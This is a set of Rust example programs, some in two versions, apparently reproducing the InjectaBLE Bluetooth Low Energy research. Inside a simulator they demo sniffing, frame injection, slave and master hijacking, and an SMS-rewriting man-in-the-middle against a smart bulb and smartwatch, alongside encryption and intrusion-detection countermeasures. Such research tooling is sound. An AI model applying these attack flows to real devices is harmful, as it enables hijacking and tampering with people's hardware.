    attacker.borrow_mut().arm(Mission::InjectAtt { att });
    println!("attacker injecting a plaintext ATT write into the encrypted link...");

    for _ in 0..150 {
        sim.run_for(Duration::from_millis(200));
        if bulb.borrow().last_disconnect_reason.is_some() {
            break;
        }
    }
    let bulb_ref = bulb.borrow();
    println!("bulb turned on by attacker : {}", bulb_ref.app.on);
    println!(
        "bulb disconnect reason     : {:?} (0x3D = MIC failure)",
        bulb_ref.last_disconnect_reason
    );
    assert!(!bulb_ref.app.on, "payload must not be accepted");
    assert_eq!(
        bulb_ref.last_disconnect_reason,
        Some(ble_link::ERR_MIC_FAILURE),
        "availability impact: connection torn down"
    );
    println!();
    println!("countermeasure confirmed: encryption blocks the forged payload,");
    println!("but the injected frame still kills the connection (DoS) —");
    println!("exactly the paper's §IV residual-impact claim.");
}
