//! Countermeasure demo (paper §IV/§VIII): inject into an *encrypted*
//! connection. The payload is never accepted — but the MIC failure tears
//! the connection down, demonstrating the residual availability impact.
//!
//! Run with: `cargo run -p injectable-examples --bin encrypted_dos`

use ble_devices::{bulb_payloads, Lightbulb};
use ble_host::att::AttPdu;
use ble_scenario::ScenarioBuilder;
use injectable::Mission;
use simkit::Duration;

fn main() {
    let mut s = ScenarioBuilder::example(11).build();
    // The countermeasure: pair and encrypt the link.
    s.central_mut().pair_on_connect = true;
    let control = s.victim_control_handle();

    // Wait for pairing (legacy Just Works) and AES-CCM link encryption.
    for _ in 0..100 {
        s.run_for(Duration::from_millis(100));
        if s.central().host.is_encrypted() && s.victim::<Lightbulb>().host.is_encrypted() {
            break;
        }
    }
    println!(
        "link encrypted: central={} bulb={}",
        s.central().host.is_encrypted(),
        s.victim::<Lightbulb>().host.is_encrypted()
    );
    assert!(s.victim::<Lightbulb>().host.is_encrypted());
    s.run_for(Duration::from_millis(500));

    // Attack the encrypted connection with a plaintext write.
    let att = AttPdu::WriteRequest {
        handle: control,
        value: bulb_payloads::power_on(),
    }
    .to_bytes();
    s.attacker_mut().arm(Mission::InjectAtt { att });
    println!("attacker injecting a plaintext ATT write into the encrypted link...");

    for _ in 0..150 {
        s.run_for(Duration::from_millis(200));
        if s.victim::<Lightbulb>().last_disconnect_reason.is_some() {
            break;
        }
    }
    let bulb = s.victim::<Lightbulb>();
    println!("bulb turned on by attacker : {}", bulb.app.on);
    println!(
        "bulb disconnect reason     : {:?} (0x3D = MIC failure)",
        bulb.last_disconnect_reason
    );
    assert!(!bulb.app.on, "payload must not be accepted");
    assert_eq!(
        bulb.last_disconnect_reason,
        Some(ble_link::ERR_MIC_FAILURE),
        "availability impact: connection torn down"
    );
    println!();
    println!("countermeasure confirmed: encryption blocks the forged payload,");
    println!("but the injected frame still kills the connection (DoS) —");
    println!("exactly the paper's §IV residual-impact claim.");
}
