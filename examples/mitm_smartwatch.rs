//! Scenario D demo: a Man-in-the-Middle established *inside* a live
//! connection, rewriting an SMS on the fly — the paper's smartwatch attack.
//!
//! Run with: `cargo run -p injectable-examples --bin mitm_smartwatch`

use ble_devices::{Smartwatch, WATCH_MESSAGE_UUID, WATCH_SERVICE_UUID};
use ble_host::gatt::props;
use ble_host::{GattServer, HostStack, Uuid};
use ble_link::{AddressType, DeviceAddress, UpdateRequest};
use ble_phy::NodeConfig;
use ble_scenario::{DeviceKind, ScenarioBuilder};
use injectable::{new_handoff, Mission, MissionState, MitmSlaveHalf, RewriteRule};
use simkit::{Duration, SimRng};

fn main() {
    let mut s = ScenarioBuilder::example(4)
        .device(DeviceKind::Smartwatch)
        .build();
    s.central_mut().auto_reconnect = false;
    let msg = s.victim_control_handle();

    // The MITM's slave half: a mirror of the watch's GATT profile plus the
    // rewrite rule (the paper modified an SMS on the fly).
    let handoff = new_handoff();
    let mirror = {
        let mut host = HostStack::new(
            DeviceAddress::new([0xEE; 6], AddressType::Random),
            GattServer::new(),
            SimRng::seed_from(5),
        );
        host.server_mut()
            .service(Uuid::GAP_SERVICE)
            .characteristic(Uuid::DEVICE_NAME, props::READ, b"SmartWatch".to_vec())
            .finish();
        host.server_mut()
            .service(WATCH_SERVICE_UUID)
            .characteristic(
                WATCH_MESSAGE_UUID,
                props::WRITE | props::WRITE_WITHOUT_RESPONSE,
                vec![],
            )
            .finish();
        host
    };
    let rewrite = RewriteRule {
        handle: Some(msg),
        find: b"noon".to_vec(),
        replace: b"MIDNIGHT".to_vec(),
    };
    let half = MitmSlaveHalf::new(mirror, handoff.clone(), vec![rewrite]);
    let h = s
        .world
        .add_node(NodeConfig::new("mitm-half", s.attacker_pos), half);
    s.world.start(h);

    // Establish the legitimate connection; the phone sends a first SMS.
    s.run_for(Duration::from_secs(2));
    s.central_mut().write(msg, b"SMS: lunch at noon?".to_vec());
    s.run_for(Duration::from_secs(1));
    println!(
        "before the attack, watch inbox: {:?}",
        s.victim::<Smartwatch>().inbox_strings()
    );

    // Arm scenario D.
    s.attacker_mut().arm(Mission::HijackMaster {
        update: UpdateRequest {
            win_size: 2,
            win_offset: 3,
            interval: 60,
            latency: 0,
            timeout: 300,
        },
        instant_delta: 6,
        host: Box::new(HostStack::new(
            DeviceAddress::new([0xAD; 6], AddressType::Random),
            GattServer::new(),
            SimRng::seed_from(6),
        )),
        on_takeover_writes: vec![],
        mitm: Some(handoff.clone()),
    });
    while s.attacker().mission_state() != MissionState::TakenOver {
        s.run_for(Duration::from_millis(200));
    }
    println!("MITM established mid-connection:");
    println!(
        "  phone   ⇄ attacker(slave half) : {}",
        s.world
            .node::<MitmSlaveHalf>(h)
            .expect("mitm half")
            .ll
            .is_connected()
    );
    println!(
        "  attacker(master half) ⇄ watch  : {}",
        s.attacker().takeover_ll().unwrap().is_connected()
    );

    // The phone sends another SMS — it now passes through the attacker.
    s.central_mut().write(msg, b"SMS: meet at noon".to_vec());
    s.run_for(Duration::from_secs(5));

    println!("phone sent      : \"SMS: meet at noon\"");
    println!(
        "attacker saw    : {:?}",
        handoff
            .lock()
            .intercepted
            .iter()
            .map(|(_, v)| String::from_utf8_lossy(v).into_owned())
            .collect::<Vec<_>>()
    );
    println!(
        "watch displays  : {:?}",
        s.victim::<Smartwatch>().inbox_strings()
    );
    assert!(s
        .victim::<Smartwatch>()
        .inbox_strings()
        .contains(&"SMS: meet at MIDNIGHT".to_string()));
    println!("\nSMS rewritten on the fly — scenario D reproduced");
}
