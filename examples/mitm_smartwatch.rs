//! Scenario D demo: a Man-in-the-Middle established *inside* a live
//! connection, rewriting an SMS on the fly — the paper's smartwatch attack.
//!
//! Run with: `cargo run -p injectable-examples --bin mitm_smartwatch`

use std::cell::RefCell;
use std::rc::Rc;

use ble_devices::{Central, Smartwatch, WATCH_MESSAGE_UUID, WATCH_SERVICE_UUID};
use ble_host::gatt::props;
use ble_host::{GattServer, HostStack, Uuid};
use ble_link::{AddressType, ConnectionParams, DeviceAddress, UpdateRequest};
use ble_phy::{Environment, NodeConfig, Position, Simulation};
use injectable::{
    new_handoff, Attacker, AttackerConfig, Mission, MissionState, MitmSlaveHalf, RewriteRule,
};
use simkit::{DriftClock, Duration, SimRng};

fn main() {
    let mut rng = SimRng::seed_from(4);
    let mut sim = Simulation::new(Environment::indoor_default(), rng.fork());

    let watch = Rc::new(RefCell::new(Smartwatch::new(0xCC, rng.fork())));
    let msg = watch.borrow().message_handle();
    let watch_addr = watch.borrow().ll.address();
    let params = ConnectionParams::typical(&mut rng, 36);
    let mut central_obj = Central::new(0xA0, watch_addr, params, rng.fork());
    central_obj.auto_reconnect = false;
    let central = Rc::new(RefCell::new(central_obj));
    let attacker = Rc::new(RefCell::new(Attacker::new(AttackerConfig {
        target_slave: Some(watch_addr),
        ..AttackerConfig::default()
    })));

    // The MITM's slave half: a mirror of the watch's GATT profile plus the
    // rewrite rule (the paper modified an SMS on the fly).
    let handoff = new_handoff();
    let mirror = {
        let mut host = HostStack::new(
            DeviceAddress::new([0xEE; 6], AddressType::Random),
            GattServer::new(),
            SimRng::seed_from(5),
        );
        host.server_mut()
            .service(Uuid::GAP_SERVICE)
            .characteristic(Uuid::DEVICE_NAME, props::READ, b"SmartWatch".to_vec())
            .finish();
        host.server_mut()
            .service(WATCH_SERVICE_UUID)
            .characteristic(
                WATCH_MESSAGE_UUID,
                props::WRITE | props::WRITE_WITHOUT_RESPONSE,
                vec![],
            )
            .finish();
        host
    };
    let rewrite = RewriteRule {
        handle: Some(msg),
        find: b"noon".to_vec(),
        replace: b"MIDNIGHT".to_vec(),
    };
    let half = Rc::new(RefCell::new(MitmSlaveHalf::new(
        mirror,
        handoff.clone(),
        vec![rewrite],
    )));

    let w = sim.add_node(
        NodeConfig::new("watch", Position::new(0.0, 0.0))
            .with_clock(DriftClock::realistic(50.0, &mut rng).with_jitter_us(1.0)),
        watch.clone(),
    );
    let c = sim.add_node(
        NodeConfig::new("phone", Position::new(2.0, 0.0))
            .with_clock(DriftClock::realistic(50.0, &mut rng).with_jitter_us(1.0)),
        central.clone(),
    );
    let a = sim.add_node(
        NodeConfig::new("attacker", Position::new(0.0, 2.0))
            .with_clock(DriftClock::realistic(20.0, &mut rng).with_jitter_us(1.0)),
        attacker.clone(),
    );
    let h = sim.add_node(
        NodeConfig::new("mitm-half", Position::new(0.0, 2.0)),
        half.clone(),
    );

    sim.with_ctx(w, |ctx| watch.borrow_mut().start(ctx));
    sim.with_ctx(c, |ctx| central.borrow_mut().start(ctx));
    sim.with_ctx(a, |ctx| attacker.borrow_mut().start(ctx));
    sim.with_ctx(h, |ctx| half.borrow_mut().start(ctx));

    // Establish the legitimate connection; the phone sends a first SMS.
    sim.run_for(Duration::from_secs(2));
    central
        .borrow_mut()
        .write(msg, b"SMS: lunch at noon?".to_vec());
    sim.run_for(Duration::from_secs(1));
    println!(
        "before the attack, watch inbox: {:?}",
        watch.borrow().inbox_strings()
    );

    // Arm scenario D.
    attacker.borrow_mut().arm(Mission::HijackMaster {
        update: UpdateRequest {
            win_size: 2,
            win_offset: 3,
            interval: 60,
            latency: 0,
            timeout: 300,
        },
        instant_delta: 6,
        host: Box::new(HostStack::new(
            DeviceAddress::new([0xAD; 6], AddressType::Random),
            GattServer::new(),
            SimRng::seed_from(6),
        )),
        on_takeover_writes: vec![],
        mitm: Some(handoff.clone()),
    });
    while attacker.borrow().mission_state() != MissionState::TakenOver {
        sim.run_for(Duration::from_millis(200));
    }
    println!("MITM established mid-connection:");
    println!(
        "  phone   ⇄ attacker(slave half) : {}",
        half.borrow().ll.is_connected()
    );
    println!(
        "  attacker(master half) ⇄ watch  : {}",
        attacker.borrow().takeover_ll().unwrap().is_connected()
    );

    // The phone sends another SMS — it now passes through the attacker.
    central
        .borrow_mut()
        .write(msg, b"SMS: meet at noon".to_vec());
    sim.run_for(Duration::from_secs(5));

    println!("phone sent      : \"SMS: meet at noon\"");
    println!(
        "attacker saw    : {:?}",
        handoff
            .borrow()
            .intercepted
            .iter()
            .map(|(_, v)| String::from_utf8_lossy(v).into_owned())
            .collect::<Vec<_>>()
    );
    println!("watch displays  : {:?}", watch.borrow().inbox_strings());
    assert!(watch
        .borrow()
        .inbox_strings()
        .contains(&"SMS: meet at MIDNIGHT".to_string()));
    println!("\nSMS rewritten on the fly — scenario D reproduced");
}
