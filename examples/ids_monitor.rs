//! Defensive demo (paper §VIII, countermeasure 3): a passive Link-Layer
//! IDS watches the victim connection and flags the injection campaign in
//! real time, while staying silent on legitimate traffic.
//!
//! Run with: `cargo run -p injectable-examples --bin ids_monitor`

use std::cell::RefCell;
use std::rc::Rc;

use ble_devices::{bulb_payloads, Central, Lightbulb};
use ble_host::att::AttPdu;
use ble_link::ConnectionParams;
use ble_phy::{Environment, NodeConfig, Position, Simulation};
use injectable::{Attacker, AttackerConfig, DetectorConfig, InjectionDetector, Mission};
use simkit::{DriftClock, Duration, SimRng};

fn main() {
    let mut rng = SimRng::seed_from(71);
    let mut sim = Simulation::new(Environment::indoor_default(), rng.fork());

    let bulb = Rc::new(RefCell::new(Lightbulb::new(0xB1, rng.fork())));
    let control = bulb.borrow().control_handle();
    let bulb_addr = bulb.borrow().ll.address();
    let params = ConnectionParams::typical(&mut rng, 36);
    let central = Rc::new(RefCell::new(Central::new(
        0xA0,
        bulb_addr,
        params,
        rng.fork(),
    )));
    let attacker = Rc::new(RefCell::new(Attacker::new(AttackerConfig {
        target_slave: Some(bulb_addr),
        ..AttackerConfig::default()
    })));
    // The defender: a passive monitor somewhere in the room.
    let detector = Rc::new(RefCell::new(
        InjectionDetector::new(DetectorConfig::default()).for_slave(bulb_addr),
    ));

    let b = sim.add_node(
        NodeConfig::new("bulb", Position::new(0.0, 0.0))
            .with_clock(DriftClock::realistic(50.0, &mut rng).with_jitter_us(1.0)),
        bulb.clone(),
    );
    let c = sim.add_node(
        NodeConfig::new("phone", Position::new(2.0, 0.0))
            .with_clock(DriftClock::realistic(50.0, &mut rng).with_jitter_us(1.0)),
        central.clone(),
    );
    let a = sim.add_node(
        NodeConfig::new("attacker", Position::new(0.0, 2.0))
            .with_clock(DriftClock::realistic(20.0, &mut rng).with_jitter_us(1.0)),
        attacker.clone(),
    );
    let m = sim.add_node(
        NodeConfig::new("ids", Position::new(1.5, 1.5)),
        detector.clone(),
    );
    sim.with_ctx(b, |ctx| bulb.borrow_mut().start(ctx));
    sim.with_ctx(c, |ctx| central.borrow_mut().start(ctx));
    sim.with_ctx(a, |ctx| attacker.borrow_mut().start(ctx));
    sim.with_ctx(m, |ctx| detector.borrow_mut().start(ctx));

    // Phase 1: ten seconds of purely legitimate traffic.
    sim.run_for(Duration::from_secs(2));
    for level in [20u8, 40, 60, 80] {
        central
            .borrow_mut()
            .write(control, bulb_payloads::brightness(level));
        sim.run_for(Duration::from_secs(2));
    }
    println!(
        "after {:>4.0} s of clean traffic : {:>4} events observed, {} alerts",
        sim.now().as_micros_f64() / 1e6,
        detector.borrow().events_observed(),
        detector.borrow().alerts().len()
    );
    assert!(detector.borrow().alerts().is_empty(), "no false positives");

    // Phase 2: the attack begins.
    let att = AttPdu::WriteRequest {
        handle: control,
        value: bulb_payloads::power_off(),
    }
    .to_bytes();
    attacker.borrow_mut().set_inject_gap(2);
    attacker.borrow_mut().arm(Mission::InjectRaw {
        llid: ble_link::Llid::StartOrComplete,
        payload: ble_host::l2cap::fragment(ble_host::l2cap::CID_ATT, &att, 27)
            .remove(0)
            .1,
        wanted_successes: 4,
    });
    sim.run_for(Duration::from_secs(15));

    let detector = detector.borrow();
    println!(
        "after the injection campaign  : {:>4} events observed, {} alerts",
        detector.events_observed(),
        detector.alerts().len()
    );
    for alert in detector.alerts().iter().take(5) {
        println!("  {alert:?}");
    }
    assert!(!detector.alerts().is_empty(), "campaign must be flagged");
    println!();
    println!(
        "attacker made {} attempts ({} confirmed) — and the monitor saw it happen",
        attacker.borrow().stats().attempts_total,
        attacker.borrow().stats().successes(),
    );
}
