//! Defensive demo (paper §VIII, countermeasure 3): a passive Link-Layer
//! IDS watches the victim connection and flags the injection campaign in
//! real time, while staying silent on legitimate traffic.
//!
//! Run with: `cargo run -p injectable-examples --bin ids_monitor`

use ble_devices::bulb_payloads;
use ble_host::att::AttPdu;
use ble_phy::{NodeConfig, Position};
use ble_scenario::ScenarioBuilder;
use injectable::{DetectorConfig, InjectionDetector, Mission};
use simkit::Duration;

fn main() {
    let mut s = ScenarioBuilder::example(71).build();
    let control = s.victim_control_handle();
    let bulb_addr = s.victim_addr;

    // The defender: a passive monitor somewhere in the room.
    let detector = InjectionDetector::new(DetectorConfig::default()).for_slave(bulb_addr);
    let m = s
        .world
        .add_node(NodeConfig::new("ids", Position::new(1.5, 1.5)), detector);
    s.world.start(m);

    // Phase 1: ten seconds of purely legitimate traffic.
    s.run_for(Duration::from_secs(2));
    for level in [20u8, 40, 60, 80] {
        s.central_mut()
            .write(control, bulb_payloads::brightness(level));
        s.run_for(Duration::from_secs(2));
    }
    let (events, alerts) = {
        let d = s.world.node::<InjectionDetector>(m).expect("ids node");
        (d.events_observed(), d.alerts().len())
    };
    println!(
        "after {:>4.0} s of clean traffic : {events:>4} events observed, {alerts} alerts",
        s.now().as_micros_f64() / 1e6,
    );
    assert_eq!(alerts, 0, "no false positives");

    // Phase 2: the attack begins.
    let att = AttPdu::WriteRequest {
        handle: control,
        value: bulb_payloads::power_off(),
    }
    .to_bytes();
    s.attacker_mut().set_inject_gap(2);
    s.attacker_mut().arm(Mission::InjectRaw {
        llid: ble_link::Llid::StartOrComplete,
        payload: ble_host::l2cap::fragment(ble_host::l2cap::CID_ATT, &att, 27)
            .remove(0)
            .1,
        wanted_successes: 4,
    });
    s.run_for(Duration::from_secs(15));

    let detector = s.world.node::<InjectionDetector>(m).expect("ids node");
    println!(
        "after the injection campaign  : {:>4} events observed, {} alerts",
        detector.events_observed(),
        detector.alerts().len()
    );
    for alert in detector.alerts().iter().take(5) {
        println!("  {alert:?}");
    }
    assert!(!detector.alerts().is_empty(), "campaign must be flagged");
    println!();
    println!(
        "attacker made {} attempts ({} confirmed) — and the monitor saw it happen",
        s.attacker().stats().attempts_total,
        s.attacker().stats().successes(),
    );
}
