//! Example binaries live alongside this package; see `[[bin]]` entries.
