//! Passive connection sniffing (the attack's synchronisation stage).
//!
//! Demonstrates the `Mission::Observe` mode: the attacker captures
//! `CONNECT_REQ`, recovers every parameter of paper Table II, follows the
//! hop sequence and tracks the Slave's SN/NESN bits — without transmitting
//! a single frame.
//!
//! Run with: `cargo run -p injectable-examples --bin sniffer`

use ble_devices::bulb_payloads;
use ble_phy::Position;
use ble_scenario::ScenarioBuilder;
use injectable::Mission;
use simkit::Duration;

fn main() {
    let mut s = ScenarioBuilder::example(7)
        .hop_interval(24)
        .attacker_position(Position::new(5.0, 5.0))
        .build();
    let control = s.victim_control_handle();
    s.attacker_mut().arm(Mission::Observe);

    // Generate some traffic to observe.
    s.run_for(Duration::from_secs(1));
    s.central_mut()
        .write(control, bulb_payloads::colour(0, 0, 255));
    s.run_for(Duration::from_secs(4));

    let attacker = s.attacker();
    let conn = attacker
        .connection()
        .expect("the sniffer should have caught the CONNECT_REQ");
    println!("Sniffed connection state (everything the injection needs):");
    println!("  access address : {}", conn.params.access_address);
    println!("  CRCInit        : 0x{:06X}", conn.params.crc_init);
    println!(
        "  hop interval   : {} ({} ms)",
        conn.params.hop_interval,
        conn.params.interval().as_micros_f64() / 1000.0
    );
    println!("  hop increment  : {}", conn.params.hop_increment);
    println!("  channel map    : {:?}", conn.params.channel_map);
    println!("  master SCA     : {:?}", conn.params.master_sca);
    println!("  master address : {}", conn.master);
    println!("  slave address  : {}", conn.slave);
    println!("  event counter  : {}", conn.next_event_counter);
    println!("  last anchor    : {}", conn.last_anchor);
    println!(
        "  slave SN/NESN  : {:?}/{:?}  →  forged SN_a/NESN_a = {:?}",
        conn.sn_s,
        conn.nesn_s,
        conn.forge_seq()
    );
    assert!(conn.next_event_counter > 50, "followed many events");
}
