//! Passive connection sniffing (the attack's synchronisation stage).
//!
//! Demonstrates the `Mission::Observe` mode: the attacker captures
//! `CONNECT_REQ`, recovers every parameter of paper Table II, follows the
//! hop sequence and tracks the Slave's SN/NESN bits — without transmitting
//! a single frame.
//!
//! Run with: `cargo run -p injectable-examples --bin sniffer`

use std::cell::RefCell;
use std::rc::Rc;

use ble_devices::{bulb_payloads, Central, Lightbulb};
use ble_link::ConnectionParams;
use ble_phy::{Environment, NodeConfig, Position, Simulation};
use injectable::{Attacker, AttackerConfig, Mission};
use simkit::{DriftClock, Duration, SimRng};

fn main() {
    let mut rng = SimRng::seed_from(7);
    let mut sim = Simulation::new(Environment::indoor_default(), rng.fork());

    let bulb = Rc::new(RefCell::new(Lightbulb::new(0xB1, rng.fork())));
    let control = bulb.borrow().control_handle();
    let bulb_addr = bulb.borrow().ll.address();
    let params = ConnectionParams::typical(&mut rng, 24);
    let central = Rc::new(RefCell::new(Central::new(
        0xA0,
        bulb_addr,
        params,
        rng.fork(),
    )));
    let attacker = Rc::new(RefCell::new(Attacker::new(AttackerConfig::default())));
    attacker.borrow_mut().arm(Mission::Observe);

    let b = sim.add_node(
        NodeConfig::new("bulb", Position::new(0.0, 0.0))
            .with_clock(DriftClock::realistic(50.0, &mut rng).with_jitter_us(1.0)),
        bulb.clone(),
    );
    let c = sim.add_node(
        NodeConfig::new("phone", Position::new(2.0, 0.0))
            .with_clock(DriftClock::realistic(50.0, &mut rng).with_jitter_us(1.0)),
        central.clone(),
    );
    let a = sim.add_node(
        NodeConfig::new("sniffer", Position::new(5.0, 5.0))
            .with_clock(DriftClock::realistic(20.0, &mut rng).with_jitter_us(1.0)),
        attacker.clone(),
    );
    sim.with_ctx(b, |ctx| bulb.borrow_mut().start(ctx));
    sim.with_ctx(c, |ctx| central.borrow_mut().start(ctx));
    sim.with_ctx(a, |ctx| attacker.borrow_mut().start(ctx));

    // Generate some traffic to observe.
    sim.run_for(Duration::from_secs(1));
    central
        .borrow_mut()
        .write(control, bulb_payloads::colour(0, 0, 255));
    sim.run_for(Duration::from_secs(4));

    let attacker = attacker.borrow();
    let conn = attacker
        .connection()
        .expect("the sniffer should have caught the CONNECT_REQ");
    println!("Sniffed connection state (everything the injection needs):");
    println!("  access address : {}", conn.params.access_address);
    println!("  CRCInit        : 0x{:06X}", conn.params.crc_init);
    println!(
        "  hop interval   : {} ({} ms)",
        conn.params.hop_interval,
        conn.params.interval().as_micros_f64() / 1000.0
    );
    println!("  hop increment  : {}", conn.params.hop_increment);
    println!("  channel map    : {:?}", conn.params.channel_map);
    println!("  master SCA     : {:?}", conn.params.master_sca);
    println!("  master address : {}", conn.master);
    println!("  slave address  : {}", conn.slave);
    println!("  event counter  : {}", conn.next_event_counter);
    println!("  last anchor    : {}", conn.last_anchor);
    println!(
        "  slave SN/NESN  : {:?}/{:?}  →  forged SN_a/NESN_a = {:?}",
        conn.sn_s,
        conn.nesn_s,
        conn.forge_seq()
    );
    assert!(conn.next_event_counter > 50, "followed many events");
}
