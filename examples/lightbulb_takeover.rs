//! Scenario B + C combined demo: evict the lightbulb from its own
//! connection, impersonate it towards the phone, then (separately) hijack
//! the Master role and drive the bulb directly.
//!
//! Run with: `cargo run -p injectable-examples --bin lightbulb_takeover`

use ble_devices::{bulb_payloads, Lightbulb};
use ble_host::gatt::props;
use ble_host::{GattServer, HostEvent, HostStack, Uuid};
use ble_link::{AddressType, DeviceAddress, UpdateRequest};
use ble_scenario::{Scenario, ScenarioBuilder};
use injectable::{Mission, MissionState};
use simkit::{Duration, SimRng};

fn build(seed: u64) -> Scenario {
    let mut s = ScenarioBuilder::example(seed).build();
    s.set_victim_auto_readvertise(false);
    s.central_mut().auto_reconnect = false;
    s.run_until_following();
    s
}

fn run_until_takeover(s: &mut Scenario) {
    for _ in 0..300 {
        s.run_for(Duration::from_millis(200));
        if s.attacker().mission_state() == MissionState::TakenOver {
            return;
        }
    }
    panic!("takeover did not complete");
}

fn scenario_b() {
    println!("— Scenario B: slave hijacking (paper §VI-B) —");
    let mut s = build(1);
    let mut server = GattServer::new();
    server
        .service(Uuid::GAP_SERVICE)
        .characteristic(Uuid::DEVICE_NAME, props::READ, b"Hacked".to_vec())
        .finish();
    let host = Box::new(HostStack::new(
        DeviceAddress::new([0xAD; 6], AddressType::Random),
        server,
        SimRng::seed_from(99),
    ));
    s.attacker_mut().arm(Mission::HijackSlave { host });
    run_until_takeover(&mut s);
    println!("  attacker evicted the bulb and took its place");
    println!("  bulb connected:  {}", s.victim_connected());
    println!(
        "  phone connected: {} (unaware)",
        s.central().ll.is_connected()
    );

    // The phone reads the device name — and gets the forged value.
    let name = s
        .attacker()
        .takeover_host()
        .unwrap()
        .server()
        .handle_of(Uuid::DEVICE_NAME)
        .unwrap();
    s.central_mut().host.read(name);
    s.run_for(Duration::from_secs(2));
    let response = s
        .central()
        .event_log
        .iter()
        .find_map(|e| match e {
            HostEvent::ReadResponse { value } => Some(String::from_utf8_lossy(value).into_owned()),
            _ => None,
        })
        .expect("phone read a device name");
    println!("  phone reads Device Name: {response:?}");
    assert_eq!(response, "Hacked");
    println!();
}

fn scenario_c() {
    println!("— Scenario C: master hijacking (paper §VI-C) —");
    let mut s = build(2);
    let control = s.victim_control_handle();
    s.attacker_mut().arm(Mission::HijackMaster {
        update: UpdateRequest {
            win_size: 2,
            win_offset: 3,
            interval: 60,
            latency: 0,
            timeout: 300,
        },
        instant_delta: 6,
        host: Box::new(HostStack::new(
            DeviceAddress::new([0xAD; 6], AddressType::Random),
            GattServer::new(),
            SimRng::seed_from(98),
        )),
        on_takeover_writes: vec![
            (control, bulb_payloads::power_on()),
            (control, bulb_payloads::colour(255, 0, 255)),
        ],
        mitm: None,
    });
    run_until_takeover(&mut s);
    s.run_for(Duration::from_secs(5));
    println!("  attacker injected a forged CONNECTION_UPDATE and stole the slave");
    println!(
        "  bulb state: on={} rgb={:?} (set by the attacker)",
        s.victim::<Lightbulb>().app.on,
        s.victim::<Lightbulb>().app.rgb
    );
    println!(
        "  legitimate phone: connected={} (supervision timeout, reason {:?})",
        s.central().ll.is_connected(),
        s.central().last_disconnect_reason
    );
    assert!(s.victim::<Lightbulb>().app.on);
    assert_eq!(s.victim::<Lightbulb>().app.rgb, (255, 0, 255));
    assert!(!s.central().ll.is_connected());
}

fn main() {
    scenario_b();
    scenario_c();
    println!("\nboth takeover scenarios reproduced");
}
