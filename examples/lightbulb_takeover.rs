//! Scenario B + C combined demo: evict the lightbulb from its own
//! connection, impersonate it towards the phone, then (separately) hijack
//! the Master role and drive the bulb directly.
//!
//! Run with: `cargo run -p injectable-examples --bin lightbulb_takeover`

use std::cell::RefCell;
use std::rc::Rc;

use ble_devices::{bulb_payloads, Central, Lightbulb};
use ble_host::gatt::props;
use ble_host::{GattServer, HostEvent, HostStack, Uuid};
use ble_link::{AddressType, ConnectionParams, DeviceAddress, UpdateRequest};
use ble_phy::{Environment, NodeConfig, Position, Simulation};
use injectable::{Attacker, AttackerConfig, Mission, MissionState};
use simkit::{DriftClock, Duration, SimRng};

struct Scene {
    sim: Simulation,
    bulb: Rc<RefCell<Lightbulb>>,
    central: Rc<RefCell<Central>>,
    attacker: Rc<RefCell<Attacker>>,
    control: u16,
}

fn build(seed: u64) -> Scene {
    let mut rng = SimRng::seed_from(seed);
    let mut sim = Simulation::new(Environment::indoor_default(), rng.fork());
    let bulb = Rc::new(RefCell::new(Lightbulb::new(0xB1, rng.fork())));
    bulb.borrow_mut().auto_readvertise = false;
    let control = bulb.borrow().control_handle();
    let bulb_addr = bulb.borrow().ll.address();
    let params = ConnectionParams::typical(&mut rng, 36);
    let mut central_obj = Central::new(0xA0, bulb_addr, params, rng.fork());
    central_obj.auto_reconnect = false;
    let central = Rc::new(RefCell::new(central_obj));
    let attacker = Rc::new(RefCell::new(Attacker::new(AttackerConfig {
        target_slave: Some(bulb_addr),
        ..AttackerConfig::default()
    })));
    let b = sim.add_node(
        NodeConfig::new("bulb", Position::new(0.0, 0.0))
            .with_clock(DriftClock::realistic(50.0, &mut rng).with_jitter_us(1.0)),
        bulb.clone(),
    );
    let c = sim.add_node(
        NodeConfig::new("phone", Position::new(2.0, 0.0))
            .with_clock(DriftClock::realistic(50.0, &mut rng).with_jitter_us(1.0)),
        central.clone(),
    );
    let a = sim.add_node(
        NodeConfig::new("attacker", Position::new(0.0, 2.0))
            .with_clock(DriftClock::realistic(20.0, &mut rng).with_jitter_us(1.0)),
        attacker.clone(),
    );
    sim.with_ctx(b, |ctx| bulb.borrow_mut().start(ctx));
    sim.with_ctx(c, |ctx| central.borrow_mut().start(ctx));
    sim.with_ctx(a, |ctx| attacker.borrow_mut().start(ctx));
    let mut scene = Scene {
        sim,
        bulb,
        central,
        attacker,
        control,
    };
    // Establish + synchronise.
    for _ in 0..100 {
        scene.sim.run_for(Duration::from_millis(100));
        if scene.central.borrow().ll.is_connected()
            && scene
                .attacker
                .borrow()
                .connection()
                .map(|t| t.has_slave_seq())
                .unwrap_or(false)
        {
            break;
        }
    }
    scene.sim.run_for(Duration::from_millis(400));
    scene
}

fn run_until_takeover(scene: &mut Scene) {
    for _ in 0..300 {
        scene.sim.run_for(Duration::from_millis(200));
        if scene.attacker.borrow().mission_state() == MissionState::TakenOver {
            return;
        }
    }
    panic!("takeover did not complete");
}

fn scenario_b() {
    println!("— Scenario B: slave hijacking (paper §VI-B) —");
    let mut scene = build(1);
    let mut server = GattServer::new();
    server
        .service(Uuid::GAP_SERVICE)
        .characteristic(Uuid::DEVICE_NAME, props::READ, b"Hacked".to_vec())
        .finish();
    let host = Box::new(HostStack::new(
        DeviceAddress::new([0xAD; 6], AddressType::Random),
        server,
        SimRng::seed_from(99),
    ));
    scene
        .attacker
        .borrow_mut()
        .arm(Mission::HijackSlave { host });
    run_until_takeover(&mut scene);
    println!("  attacker evicted the bulb and took its place");
    println!(
        "  bulb connected:  {}",
        scene.bulb.borrow().ll.is_connected()
    );
    println!(
        "  phone connected: {} (unaware)",
        scene.central.borrow().ll.is_connected()
    );

    // The phone reads the device name — and gets the forged value.
    let name = scene
        .attacker
        .borrow()
        .takeover_host()
        .unwrap()
        .server()
        .handle_of(Uuid::DEVICE_NAME)
        .unwrap();
    scene.central.borrow_mut().host.read(name);
    scene.sim.run_for(Duration::from_secs(2));
    let central = scene.central.borrow();
    let response = central
        .event_log
        .iter()
        .find_map(|e| match e {
            HostEvent::ReadResponse { value } => Some(String::from_utf8_lossy(value).into_owned()),
            _ => None,
        })
        .expect("phone read a device name");
    println!("  phone reads Device Name: {response:?}");
    assert_eq!(response, "Hacked");
    println!();
}

fn scenario_c() {
    println!("— Scenario C: master hijacking (paper §VI-C) —");
    let mut scene = build(2);
    let control = scene.control;
    scene.attacker.borrow_mut().arm(Mission::HijackMaster {
        update: UpdateRequest {
            win_size: 2,
            win_offset: 3,
            interval: 60,
            latency: 0,
